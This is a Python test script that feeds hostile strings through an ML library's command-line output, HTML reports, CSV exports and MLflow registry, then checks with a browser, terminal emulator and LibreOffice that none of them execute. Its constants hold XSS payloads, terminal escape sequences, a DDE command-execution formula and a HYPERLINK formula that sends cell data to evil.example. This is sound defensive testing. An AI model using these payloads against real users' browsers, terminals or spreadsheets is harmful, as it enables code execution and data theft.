"""Hostile names, levels, tools, ids and folders through every output: what is executed, what is left raw?

The readers are real: a browser for report and model card, DuckDB and Python for csv, LibreOffice for
formulas, a terminal emulator for what commands say, MLflow's own store for tags and descriptions. A reader
that isn't installed is named in the result.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

os.environ.setdefault("MLFLOW_DISABLE_TELEMETRY", "true")
os.environ.setdefault("DO_NOT_TRACK", "true")
os.environ.setdefault("MLFLOW_ENABLE_ARTIFACTS_PROGRESS_BAR", "false")
os.environ.setdefault("MLFLOW_LOGGING_LEVEL", "ERROR")

import numpy as np
import pandas as pd
from click.testing import CliRunner

import icp_ml as icp
from icp_ml.cli import main
from icp_ml.serve.record import run_record
from icp_ml.view.plots import plot_traits
from icp_ml.visible import formula_read_back

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
FORMULA = re.compile("[=+\\-@＝＋－＠\t\r\n]")
PWNED = "document.documentElement.setAttribute('data-pwned','1')"
SCRIPTS = (
    f"<script>{PWNED}</script>",
    f'<img src=x onerror="{PWNED}">',
    f'"><svg onload={PWNED}>',
    f"</script></style></title><script>{PWNED}</script>",
    f'![a](x" onerror="{PWNED}) [b](javascript:{PWNED})',
    f"```\n\n<script>{PWNED}</script>\n\n```",
    "{{ 7*7 }} {% raw %} $\\frac{1}{$",
)
ESCAPES = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31m",
    "\x9b31m",
    "a\x08\x08\x7f",
    "\u202egnp.exe",
    "z\u200b\u2028z",
    "\x0e\x1bc",
)
FORMULAS = ("=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", " =1", "＝1+1",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")')  # fmt: skip
ALL = (*SCRIPTS, *ESCAPES, *FORMULAS)


def frame(rows: int, seed: int, *, labels: bool = True) -> pd.DataFrame:
    """Accounts whose outcome hangs on a hostile level, a hostile tool and a hostile column."""
    rng = np.random.default_rng(seed)
    levels = np.array([f"{text} {place}" for place, text in enumerate(ALL)], dtype=object)
    good = rng.integers(0, 3, rows)
    level = good * 8 + rng.integers(0, 8, rows)
    tools = [[f"t {ALL[(n * 7 + k) % len(ALL)]}" for k in range(2)] for n in good]
    table = pd.DataFrame(
        {
            "id": [f"{ALL[n % len(ALL)]}{n}" for n in range(rows)],
            f"level {''.join(ESCAPES[:3])}{SCRIPTS[0]}": levels[level],
            f"={SCRIPTS[1]}\x1b[5m": rng.normal(good, 1.0),
            f"stack {SCRIPTS[5]}": tools,
        }
    )
    return table.assign(y=(rng.random(rows) < 0.3 + 0.3 * good).astype(int)) if labels else table


def model_of(rows: int) -> icp.IcpModel:
    dataset = icp.Dataset.from_frame(
        frame(rows, 1), account_id="id", labels={"retained": "y"}, technologies=[f"stack {SCRIPTS[5]}"]
    )
    return icp.train(dataset, seed=1)


def commands(folder: Path, model: icp.IcpModel) -> dict[str, str]:
    """What every command says of hostile models, files and folders; its exit code says nothing here."""
    bundle = folder / "b\x1b[31m\u202e"
    icp.save(model, bundle)
    features = folder / "f\x1b[7m"
    features.mkdir()
    frame(200, 2, labels=False).to_parquet(features / "x\x07.parquet")
    crm = folder / "crm\x1b[1m"
    crm.mkdir()
    (crm / "acc\x1bounts.csv").write_text("id\x1b[31m,\x9bx\n1,2\n", encoding="utf-8")
    (crm / "accounts.csv").write_text("account\x1b[31m,\x9bx\n1,2\n", encoding="utf-8")
    settings = folder / "icp\x1b.toml"
    settings.write_text('[data]\nsource = "crm\\u001b[1m"\n"bad\\u001b[31m" = 1\n', encoding="utf-8")
    lines = {
        "profile": ["profile", "--model", bundle],
        "profile json": ["profile", "--model", bundle, "--json"],
        "report": ["report", "--model", bundle, "--out", folder / "r\x1b[31m.html"],
        "score": [
            "score",
            "--model",
            bundle,
            "--features",
            f"{features}/*.parquet",
            "--out",
            folder / "s\x1b",
        ],
        "csv": [
            "score",
            "--model",
            bundle,
            "--features",
            features,
            "--out",
            folder / "csv",
            "--format",
            "csv",
        ],
        "monitor": ["monitor", "--model", bundle, "--features", f"{features}/*.parquet"],
        "no tables": ["score", "--model", bundle, "--data", crm, "--out", folder / "n"],
        "no model": ["profile", "--model", folder / "gone\x1b[31m"],
        "no version": [
            "profile",
            "--model",
            "models:/a\x1b[31m/1",
            "--tracking-uri",
            f"sqlite:///{folder}/m.db",
        ],
        "settings": ["train", "--config", settings],
        "audit": ["audit", "--config", settings],
        "no command": ["\x1b[31mtrain"],
        "no option": ["train", "--\x1b[31m", "x"],
    }
    said = {}
    for name, words in lines.items():
        done = CliRunner().invoke(main, [str(word) for word in words])
        said[name] = done.output
        if done.exception is not None and not isinstance(done.exception, SystemExit):
            said[name] += f"TRACEBACK {type(done.exception).__name__}"
    return said


def terminal(said: dict[str, str]) -> dict[str, Any]:
    """Let a terminal emulator read what was said; count every order that it obeyed."""
    import pyte

    obeyed = []

    class Listening(pyte.Screen):
        def set_title(self, *_: Any) -> None:
            obeyed.append("title")

        def select_graphic_rendition(self, *_: Any, **__: Any) -> None:
            obeyed.append("colour")

        def erase_in_display(self, how: int = 0, *_: Any, **__: Any) -> None:
            if how:
                obeyed.append("erase")

        def bell(self, *_: Any) -> None:
            obeyed.append("bell")

        def backspace(self) -> None:
            obeyed.append("backspace")

    for text in said.values():
        screen = Listening(200, 50)
        pyte.Stream(screen).feed(text.replace("\n", "\r\n"))
    raw = sum(len(RAW.findall(text)) for text in said.values())
    tracebacks = [name for name, text in said.items() if "TRACEBACK" in text]
    return {"texts": len(said), "executed": len(obeyed), "raw": raw, "tracebacks": tracebacks}


def spreadsheet(folder: Path, ids: list[str]) -> dict[str, Any]:
    """Read the scores as csv by Python and DuckDB, and by LibreOffice where it's installed."""
    import duckdb

    (file,) = (folder / "csv").glob("part-*")
    text = file.read_text(encoding="utf-8")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    numbers = [header.index(name) for name in header if name.startswith(("p_", "icp_fit", "expected"))]
    cells = [cell for row in rows for place, cell in enumerate(row) if place not in numbers]
    read = duckdb.sql(f"select * from read_csv('{file}', header=true, all_varchar=true)").fetchall()
    back = [formula_read_back(row[0]) for row in read]
    plain = [
        (given, found)
        for given, found in zip(ids, back, strict=True)
        if not RAW.search(given + "\t" * ("\n" in given))
    ]
    found = {
        "rows": len(rows),
        "executed": sum(bool(FORMULA.match(cell)) for cell in [*cells, *header]),
        "raw": len(RAW.findall(text)),
        "duckdb_rows": len(read),
        "ids_not_read_back": sum(
            given != found for given, found in plain if "\n" not in given and "\t" not in given
        ),
        "numbers_not_numbers": sum(not _is_number(row[place]) for row in rows for place in numbers),
    }
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        return {**found, "libreoffice": "not installed"}
    command = [office, "--headless", "--convert-to", "fods", "--outdir", str(folder), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    sheet = (folder / f"{file.stem}.fods").read_text(encoding="utf-8")
    return {**found, "libreoffice": "read", "libreoffice_formulas": sheet.count("table:formula=")}


def _is_number(cell: str) -> bool:
    try:
        float(cell or 0)
    except ValueError:
        return False
    return True


def pages(folder: Path, card: str) -> dict[str, Any]:
    """Open report and model card in a browser; count the scripts that ran."""
    from markdown_it import MarkdownIt

    (report,) = folder.glob("r*.html")
    report = report.rename(folder / "report.html")
    told = report.read_text(encoding="utf-8").count("&lt;script&gt;")
    (folder / "card.html").write_text(
        f"<html><body>{MarkdownIt().render(card)}</body></html>", encoding="utf-8"
    )
    raw = sum(
        len(RAW.findall((folder / name).read_text(encoding="utf-8"))) for name in ("report.html", "card.html")
    )
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        return {"raw": raw, "told": told, "browser": "not installed", "executed": 0}
    control = folder / "control.html"
    control.write_text(f"<html><body>{SCRIPTS[0]}</body></html>", encoding="utf-8")
    ran = {}
    for page in ("report", "card", "control"):
        command = [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            f"--user-data-dir={folder / 'chromium'}",
        ]
        command += ["--virtual-time-budget=3000", "--dump-dom", (folder / f"{page}.html").as_uri()]
        done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=240)
        ran[page] = bool(re.search(r"<html[^>]*data-pwned", done.stdout))
    if not ran.pop("control"):
        raise SystemExit("the browser runs no script at all: nothing was tried")
    return {"raw": raw, "told": told, "browser": Path(browser).name, "executed": sum(ran.values())}


def registry(folder: Path, model: icp.IcpModel) -> dict[str, Any]:
    """Register the model and read back what MLflow shows."""
    import mlflow

    uri = f"sqlite:///{folder / 'mlflow.db'}"
    dataset = icp.Dataset.from_frame(
        frame(200, 3), account_id="id", labels={"retained": "y"}, technologies=[f"stack {SCRIPTS[5]}"]
    )
    icp.save(model, folder / "bundle")
    params = {"note": "x\x1b" * 9_000}
    record = run_record(model, icp.evaluate(model, dataset, n_bootstrap=10), params=params)
    tracker = icp.MlflowTracker(tracking_uri=uri, artifact_location=str(folder / "artifacts"))
    version = tracker.log(record, folder / "bundle")
    tracker.promote(version, "".join(ALL) * 90, replaces=None)
    client = mlflow.MlflowClient(tracking_uri=uri)
    made = client.get_model_version("icp", version.partition("/")[2])
    run = client.get_run(made.run_id)
    tags = {**run.data.tags, **made.tags, **client.get_registered_model("icp").tags, "note": made.description}
    ours = [text for name, text in tags.items() if not name.startswith("mlflow.source")]
    texts = [*ours, *run.data.params.values()]
    said = (
        CliRunner().invoke(main, ["profile", "--model", f"models:/{version}", "--tracking-uri", uri]).output
    )
    return {
        "raw": sum(len(RAW.findall(text)) for text in [*texts, said]),
        "longest": max(map(len, texts)),
        "executed": 0,
        "card": record.card,
    }


def drawings(folder: Path, model: icp.IcpModel) -> dict[str, Any]:
    """Draw traits with hostile names; a name is no mathematics."""
    axes = plot_traits(model.profile)
    axes.figure.savefig(folder / "traits.svg")
    return {"raw": len(RAW.findall((folder / "traits.svg").read_text(encoding="utf-8"))), "executed": 0}


def texts_of(folder: Path) -> dict[str, Any]:
    """Look at the texts of scores as parquet: words are safe, ids are as they were given."""
    (file,) = next(folder.glob("s\x1b*")).glob("part-*.parquet")
    table = pd.read_parquet(file)
    words = (
        table[[name for name in table if name.startswith(("reason", "risk"))]].fillna("").to_numpy().ravel()
    )
    kept = table["account_id"].tolist() == icp_ids()
    return {
        "rows": len(table),
        "raw": sum(len(RAW.findall(str(word))) for word in words),
        "executed": 0,
        "ids_kept": kept,
    }


def icp_ids() -> list[str]:
    """Ids as the library reads them: blanks at the ends are no part of one."""
    from icp_ml.data.ids import clean_ids

    return [str(text) for text in clean_ids(frame(200, 2)["id"])]


def run(rows: int) -> dict[str, Any]:
    with tempfile.TemporaryDirectory() as name, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        folder = Path(name)
        model = model_of(rows)
        said = commands(folder, model)
        logged = registry(folder, model)
        parts: dict[str, Callable[[], dict[str, Any]]] = {
            "terminal": lambda: terminal(said),
            "csv": lambda: spreadsheet(folder, icp_ids()),
            "parquet": lambda: texts_of(folder),
            "pages": lambda: pages(folder, logged.pop("card")),
            "plots": lambda: drawings(folder, model),
        }
        found = {part: look() for part, look in parts.items()}
        found["registry"] = logged
    total = {key: sum(int(part[key]) for part in found.values()) for key in ("executed", "raw")}
    return {"strings": len(ALL), **found, **total}


def main_() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--smoke", action="store_true", help="fewer accounts")
    parser.add_argument("--out", type=Path, default=Path(__file__).with_name("hostile.json"))
    asked = parser.parse_args()
    result = run(240 if asked.smoke else 1_200)
    text = json.dumps(result, indent=1)
    if not asked.smoke:
        asked.out.write_text(f"{text}\n", encoding="utf-8")
    print(text)
    bad = result["executed"] + result["raw"] + len(result["terminal"]["tracebacks"])
    bad += result["pages"]["told"] == 0  # a page without hostile names shows nothing
    return 1 if bad + result["csv"]["ids_not_read_back"] + result["csv"].get("libreoffice_formulas", 0) else 0


if __name__ == "__main__":
    sys.exit(main_())
